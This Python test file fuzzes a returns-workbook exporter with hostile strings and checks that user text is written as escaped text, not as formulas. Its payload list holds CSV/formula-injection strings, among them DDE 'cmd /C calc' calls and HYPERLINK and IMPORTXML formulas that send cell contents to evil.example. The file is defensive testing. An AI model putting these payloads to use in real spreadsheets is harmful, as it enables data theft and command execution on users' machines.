"""User text reaches the workbook as text, never as a formula: a seeded fuzz of hostile strings is written as
answers, commentary and narrative, then the workbook is read back with openpyxl."""

import random
import re

from policy.years import y2015_16, y2016_17
from returns import services
from returns.checks import return_checks
from returns.workbook import _text, return_workbook_bytes
from tests.factories.returns import pooled_fund_create
from tests.returns.helpers import workbook

TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\x00", "\x00=", " =", "=="]
PAYLOADS = [
    "1+1",
    'HYPERLINK("http://evil.example/?"&A1,"click")',
    "cmd|' /C calc'!A0",
    "SUM(1,2)*cmd|'/C notepad'!'A1'",
    'IMPORTXML(CONCAT("http://x/",A1),"//a")',
    'DDE("cmd";"/C calc";"!A0")A0',
    "2+3",
    "@SUM(A1:A9)",
]
UNICODE = ["café", "Ω≈ç√∫", "😀👍", "مرحبا", "\u202eRTL", "ﬁ", "漢字", "\u00a0nbsp", "\ufeffbom"]


def hostile_strings(count: int, seed: int = 2015) -> list[str]:
    rng = random.Random(seed)
    texts = []
    for i in range(count):
        parts = [rng.choice(TRIGGERS), rng.choice(PAYLOADS)]
        if rng.random() < 0.5:
            parts.append(rng.choice(UNICODE))
        if rng.random() < 0.3:
            parts.append("".join(rng.choice("\x01\x02\x0b\x1f\x7f\ufffe=+-@\n\t") for _ in range(rng.randint(1, 6))))
        text = "".join(parts)
        if i % 17 == 0:
            text = text + ("x" * rng.randint(1000, 29_000))  # very long text, under the 30,000 limit
        texts.append(text)
    return texts


def _cells(book) -> list:
    return [(ws.title, cell) for ws in book for row in ws.iter_rows() for cell in row]


# The only text constants a checklist formula may hold: the template's own words.
TEMPLATE_WORDS = {"Yes", "No", "No - In Progress", "Complete Template", "Incomplete Template"}
TEMPLATE_WORDS |= {choice for _sheet, q in y2016_17.TEMPLATE.questions() for choice in q.choices}


def _assert_no_user_formula(book, expected_texts: list[str]) -> None:
    """The only formulas are the renderer's own: =SUM totals, and checklist tests whose only text constants are
    the template's words; every user text is there, neutralised, as text."""
    values = set()
    for sheet, cell in _cells(book):
        if cell.data_type == "f":
            if sheet == "Checklist":
                constants = {c.replace('""', '"') for c in re.findall(r'"((?:[^"]|"")*)"', cell.value)}
                assert constants <= TEMPLATE_WORDS | {""}, (cell.coordinate, cell.value[:80])
                continue
            assert sheet == "Income and Expenditure", (sheet, cell.coordinate, cell.value)
            assert cell.value.startswith("=SUM(") and cell.value.count("(") == 1 and ":" in cell.value, cell.value
            continue
        if isinstance(cell.value, str):
            assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r", "\x00")), (sheet, cell.value[:40])
            values.add(cell.value)
    for text in expected_texts:
        shown = _text(text)
        assert shown in values, text[:40]


def test_hostile_user_text_written_through_the_services_is_never_a_formula(programme, pmo):
    pooled_fund_create(programme=programme, by=pmo)  # so the workbook also has its own (legitimate) total formulas
    draft = services.quarterly_return_build(programme=programme, quarter="2015-16-Q1", by=pmo)
    texts = iter(hostile_strings(200))
    used = []
    for answer in draft.answers.order_by("order"):
        question, table = services.answer_question(answer)
        if answer.code == "cover.email" or (question is not None and not question.editable):
            continue  # checked as an email address / written by the system
        value = "" if table is not None else (question.choices[0] if question.choices else next(texts))
        commentary = next(texts) if table is not None or question.commentary else ""
        services.return_answer_update(
            answer=answer, value=value, commentary=commentary, by=pmo, expected_version=answer.version
        )
        used += [
            t.replace("\x00", "").strip() for t in (value, commentary) if t and not (question and t in question.choices)
        ]
    assert len(used) >= 20
    draft.refresh_from_db()
    book = workbook(draft.workbook)
    assert [c for s, c in _cells(book) if c.data_type == "f"], "the income and expenditure totals are formulas"
    _assert_no_user_formula(book, used)


def test_a_thousand_hostile_strings_through_the_renderer_are_never_formulas():
    texts = hostile_strings(1000, seed=7)
    rows = [
        {
            "key": f"m{i}",
            "metric": text,
            "unit": "Count",
            "period": "2015/16 Q1",
            "plan": "1",
            "actual": None,
            "status": "No actual yet",
        }
        for i, text in enumerate(texts[:500])
    ]
    answers = {f"metrics.m{i}": {"value": "", "commentary": text} for i, text in enumerate(texts[500:])}
    answers["narrative.progress"] = {"value": texts[0], "commentary": ""}
    figures = {
        "income": {"rows": []},
        "expenditure": {
            "rows": [
                {
                    "key": "a1",
                    "fund": texts[1],
                    "scheme": texts[2],
                    "planned_quarter": "1.00",
                    "actual_quarter": "2.00",
                    "planned_ytd": "1.00",
                    "actual_ytd": "2.00",
                    "variance_ytd": "1.00",
                }
            ]
        },
        "metrics": {"rows": rows},
    }
    template = y2015_16.TEMPLATE
    content = return_workbook_bytes(
        template=template,
        document={
            "programme": texts[3],
            "quarter_label": "2015/16 Q1",
            "status_line": "DRAFT",
            "answers": answers,
            "figures": figures,
            "checks": return_checks(template=template, answers=answers, figures=figures),
        },
    )
    _assert_no_user_formula(workbook(content), texts)


def test_neutralised_text_keeps_what_was_typed_after_the_apostrophe(programme, pmo):
    draft = services.quarterly_return_build(programme=programme, quarter="2015-16-Q1", by=pmo)
    answer = draft.answers.get(code="narrative.progress")
    services.return_answer_update(
        answer=answer, value='=HYPERLINK("http://evil.example","x")', by=pmo, expected_version=answer.version
    )
    draft.refresh_from_db()
    ws = workbook(draft.workbook)["Narrative"]
    cell = next(c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert cell.value == '\'=HYPERLINK("http://evil.example","x")'
    assert cell.data_type == "s"
